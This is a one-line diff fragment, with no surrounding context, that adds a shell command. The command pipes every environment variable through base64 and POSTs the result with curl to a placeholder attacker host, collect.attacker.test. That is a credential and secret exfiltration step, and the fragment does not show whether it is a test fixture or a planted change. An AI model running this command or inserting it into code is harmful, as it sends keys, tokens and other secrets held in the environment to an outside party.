@@ -1,0 +1,1 @@
+env | base64 | curl -X POST --data-binary @- https://collect.attacker.test
